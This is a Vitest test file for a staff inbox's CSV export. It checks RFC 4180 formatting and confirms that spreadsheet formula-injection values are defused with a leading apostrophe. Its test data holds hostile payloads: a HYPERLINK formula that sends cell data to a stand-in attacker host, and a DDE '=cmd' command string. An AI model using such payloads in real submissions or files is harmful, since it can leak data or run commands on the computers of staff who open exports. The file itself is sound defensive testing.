// @vitest-environment node
/**
 * The inbox's CSV export with a signed-in staff member: the current filter as RFC 4180 text
 * that spreadsheets open safely.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { staffApiPaths } from '@/config/staff-api';
import type { NewSubmission } from '../db';
import { createStaff, signIn, type StaffSession } from '../support/staff-client';
import {
  startTestServer,
  validApply,
  validContact,
  type TestServer,
  storeSubmission,
} from '../support/test-server';

let server: TestServer;
let staff: StaffSession;
beforeEach(async () => {
  server = await startTestServer({ inProcess: true });
  await createStaff(server);
  staff = await signIn(server);
});
afterEach(async () => {
  await server.close();
});

const contact = (overrides: Partial<NewSubmission> = {}): NewSubmission => ({
  kind: 'contact',
  country: null,
  ...validContact,
  ...overrides,
});
const application = (overrides: Partial<NewSubmission> = {}): NewSubmission => ({
  kind: 'apply',
  ...validApply,
  ...overrides,
});

/**
 * The body's text after its UTF-8 byte-order mark, which must be there (fetch's text() drops it).
 */
async function csvText(response: Response): Promise<string> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
}

/** RFC 4180 records of a CSV text (quoted fields, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const character = text[i] ?? '';
    if (quoted) {
      if (character === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += character;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('CSV export', () => {
  it('exports the current filter as RFC 4180 with formulas made harmless', async () => {
    const dangerous = [
      '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
      '+1+2',
      '-3+4',
      '@SUM(A1:A2)',
      '\tTabbed',
      '\rReturned',
    ];
    await storeSubmission(
      server,
      contact({ last_name: 'Plain', message: 'Line one\nline "two", with a comma' }),
    );
    for (const [index, value] of dangerous.entries()) {
      await storeSubmission(
        server,
        application({ last_name: `Risky-${index}`, message: value, orgnization_name: value }),
      );
    }
    // Through the gateway as a visitor would send it, too.
    await server.submit({
      ...validContact,
      first_name: '=cmd|"/c calc"!A1',
      last_name: 'Visitor',
    });

    const response = await staff.request(`${staffApiPaths.submissionsCsv}?kind=apply&status=all`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="submissions-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const text = await csvText(response);
    const [header, ...rows] = parseCsv(text);
    expect(header?.slice(0, 4)).toEqual(['id', 'kind', 'status', 'received_at']);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    expect(rows).toHaveLength(dangerous.length);
    // Newest first; every dangerous value comes back with an apostrophe in front and nothing lost.
    for (const [index, value] of dangerous.entries()) {
      const row = rows[dangerous.length - 1 - index] ?? [];
      expect(row[column('last_name')]).toBe(`Risky-${index}`);
      expect(row[column('message')]).toBe(`'${value}`);
      expect(row[column('orgnization_name')]).toBe(`'${value}`);
    }

    const contacts = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?kind=contact`)),
    );
    expect(
      contacts
        .slice(1)
        .map((row) => [
          row[column('last_name')],
          row[column('first_name')],
          row[column('message')],
        ]),
    ).toEqual([
      ['Visitor', `'=cmd|"/c calc"!A1`, validContact.message],
      ['Plain', 'Jane', 'Line one\nline "two", with a comma'],
    ]);

    const searched = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?status=all&q=calc`)),
    );
    expect(searched.slice(1).map((row) => row[column('last_name')])).toEqual(['Visitor']);
  });
});
